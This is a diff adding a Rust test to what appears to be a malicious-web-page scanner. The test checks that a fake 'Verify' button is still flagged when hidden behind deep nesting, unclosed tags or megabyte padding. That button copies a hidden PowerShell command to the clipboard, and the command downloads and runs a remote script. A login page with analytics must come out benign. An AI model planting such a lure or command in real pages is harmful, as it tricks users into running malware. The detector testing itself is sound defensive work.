@@ -714,3 +714,48 @@ document.getElementById('menu').setAttribute('aria-expanded', 'false');
     let (verdict, fired) = verdict_of(&menu);
     assert_eq!(verdict, "benign", "{fired:?}");
 }
+
+/// What the review of the page build found: deep or unclosed markup, padding and decoys do not
+/// stop it; a page's own forms, links and inline handlers next to an analytics loader are not
+/// what its scripts did.
+#[test]
+fn a_pages_markup_neither_hides_its_handlers_nor_makes_ordinary_pages_suspicious() {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let path = dir.path().join(name);
+        std::fs::write(&path, text).unwrap();
+        path
+    };
+    let lure = r#"<p>Press Win+R, then Ctrl+V and Enter.</p><button onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr https://198.51.100.9/c.ps1 | iex')">Verify</button>"#;
+    for (name, page) in [
+        (
+            "deep.html",
+            format!("<body>{}{lure}</body>", "<div>".repeat(400)),
+        ),
+        (
+            "unclosed.html",
+            format!("<body><ul>{}</ul>{lure}</body>", "<li>item".repeat(400)),
+        ),
+        (
+            "padded.html",
+            format!(
+                "<!-- {} --><!-- <body> --><body>{lure}</body>",
+                "x".repeat(1 << 20)
+            ),
+        ),
+    ] {
+        let (verdict, fired) = verdict_of(&write(name, &page));
+        assert_eq!(verdict, "malicious", "{name}: {fired:?}");
+    }
+    let shop = write(
+        "login.html",
+        r#"<html><body onload="init()"><form action="https://auth.example.com/login" method="post" onsubmit="return check(this)">
+<input name="user"><input type="password" name="password"><button type="submit">Sign in</button></form>
+<a href="https://cdn.example.com/app.zip" download onclick="track('dl')">Download</a>
+<script>function init(){} function check(f){return true} function track(x){}
+(function(){var s=document.createElement('script');s.async=true;s.src='https://www.googletagmanager.com/gtag/js?id=G-1';document.head.appendChild(s);})();</script>
+</body></html>"#,
+    );
+    let (verdict, fired) = verdict_of(&shop);
+    assert_eq!(verdict, "benign", "{fired:?}");
+}
